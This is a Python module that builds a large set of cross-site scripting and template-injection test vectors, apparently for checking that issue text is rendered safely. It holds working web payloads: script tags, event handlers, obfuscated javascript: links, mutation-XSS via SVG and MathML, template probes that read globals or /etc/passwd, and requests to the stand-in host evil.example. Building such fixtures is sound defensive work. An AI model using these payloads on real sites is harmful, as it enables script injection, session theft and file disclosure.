"""Texts that try to run a script, by family, as an attacker would write them in an issue.

All are our own: the parts of attacks, combined in every way. A successful attack calls `alert` or
sends a request to evil.example.
"""

from itertools import product

_DEED = "alert(1)"
_OUTSIDE = "https://evil.example/x"

_TAGS = (
    "script", "ScRiPt", "img", "svg", "math", "iframe", "object", "embed", "video", "audio", "body",
    "details", "marquee", "input", "select", "textarea", "form", "button", "style", "link", "meta",
    "base", "template", "noscript", "title", "xmp", "plaintext", "isindex", "frameset", "portal",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onfocus autofocus", "ontoggle open", "onmouseover", "onpointerenter",
    "onbegin", "onanimationstart", "onclick", "ONERROR", "onerror\t", "onerror/",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "java&#115;cript:alert(1)", "java&#x73;cript&colon;alert(1)", "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&#58;alert(1)",
    "javascript://evil.example/%0aalert(1)", "vbscript:alert(1)", "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwv",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://a.example/1", "file:///etc/passwd",
    "//evil.example/x", r"/\evil.example/x", r"\\evil.example\x", "https:evil.example",
    "https:/\\evil.example", "https://a@evil.example", "https://good.example\\@evil.example",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/",
    "mailto:a@b.example?body=<script>alert(1)</script>", "https://a.example/\"onclick=\"alert(1)",
    "https://a.example/'onclick='alert(1)", "https://a.example/><script>alert(1)</script>",
)  # fmt: skip
_LINKS = (
    "[a]({})", "[a](<{}>)", "![a]({})", "[a]({} \"t\")", "<{}>", "[a][b]\n\n[b]: {}", "[{}]({})",
    "[![a]({})]({})", "[a\\]({})", "[a]\\({})",
)  # fmt: skip
_BREAKS = ('"', "'", "`", '">', "'>", "</title>", "</a>", "-->", "]]>", "</script>", "</style>")
_PAYLOADS = (
    f"<script>{_DEED}</script>",
    f"<img src=x onerror={_DEED}>",
    f"<svg/onload={_DEED}>",
    f"<iframe srcdoc='<script>{_DEED}</script>'>",
    f" onmouseover={_DEED} x=",
)
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% {} %}}", "{{{{= {} }}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "[[{}]]",
    "{{{{constructor.constructor('{}')()}}}}", "<div v-html=\"{}\">", "<div ng-app ng-init=\"{}\">",
    "<div x-data x-init=\"{}\">", "{{{{ self.__init__.__globals__ }}}} {}", "{{!--{}--}}",
    "{{% include '/etc/passwd' %}} {}", "{{{{ config }}}} {}", "<a v-bind:href=\"'{}'\">",
)  # fmt: skip
_UNSEEN = ("\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\U000e0041", "\u061c")
_SVG = (
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe onload={}></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:{}>", "<svg><use href=data:image/svg+xml,{}>",
    "<math><mtext><table><mglyph><style><img onerror={} src>", "<math href=javascript:{}>x</math>",
    "<math><maction actiontype=statusline#https://evil.example xlink:href=javascript:{}>x",
    "<math><annotation-xml encoding=text/html><img src onerror={}>",
    "<svg><style>*{{background:url(https://evil.example/{})}}</style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
)  # fmt: skip
_WRAPS = (
    "```html\n{}\n```", "```{}\nx\n```", "~~~ {}\nx\n~~~", "    {}", "`{}`", "`` {} ``", "> {}",
    "- {}", "1. {}", "# {}", "**{}**", "~~{}~~", "| a | {} |\n|---|---|\n| {} | b |", "{}\n---",
    "a\n: {}", "*[x]: {}", "[^1]: {}", "<!-- {} -->", "<![CDATA[{}]]>", "<?php {} ?>", "&lt;{}",
    "[{}](https://a.example)", "[a](https://a.example '{}')", "![{}](https://a.example/i.png)",
    "{{: onclick={} }}", "{}{{.a onclick={}}}", "<p\n{}", "\\{}", "<{}>", "</{}>",
)  # fmt: skip
_WRAPPED = (_PAYLOADS[0], _PAYLOADS[1], _PAYLOADS[2])


def _filled(form: str, text: str) -> str:
    return form.format(*[text] * form.count("{}"))


FAMILIES: dict[str, list[str]] = {
    "tags": [f"<{tag} src={_OUTSIDE} onload={_DEED}>{_DEED}</{tag}>" for tag in _TAGS],
    "tags-cut-short": [f"<{tag}/onerror={_DEED} src=x " for tag in _TAGS],
    "attributes": [
        f"<{tag} {handler}={_DEED} src=x>"
        for tag, handler in product(("img", "svg", "details", "body", "x"), _HANDLERS)
    ],
    "breaks": [left + payload for left, payload in product(_BREAKS, _PAYLOADS)],
    "entities": [
        "".join(form.format(ord(one)) for one in payload)
        for form, payload in product(("&#{};", "&#x{:x};", "&#{:07d}", "\\u{:04x}"), _WRAPPED)
    ]
    + [payload.replace("<", "&lt;").replace(">", "&gt;") for payload in _PAYLOADS]
    + [payload.replace("<", "&amp;lt;") for payload in _PAYLOADS],
    "links": [
        _filled(form, scheme)
        for form, scheme in product(_LINKS, _SCHEMES)
        if not form.startswith("[a][b]") or scheme.startswith("java")
    ],
    "brackets": [
        f"{'[' * depth}a{']' * depth}({scheme})"
        for depth, scheme in product((2, 3, 7), _SCHEMES[:5])
    ],
    "wraps": [_filled(form, payload) for form, payload in product(_WRAPS, _WRAPPED)],
    "unseen": [
        payload.replace("s", f"{one}s", 1) for one, payload in product(_UNSEEN, _PAYLOADS[:4])
    ],
    "svg-and-mathml": [_filled(form, _DEED) for form in _SVG],
    "templates": [
        _filled(form, deed) for form, deed in product(_TEMPLATES, (_DEED, "7*7", _PAYLOADS[1]))
    ],
}
VECTORS = [vector for family in FAMILIES.values() for vector in family]
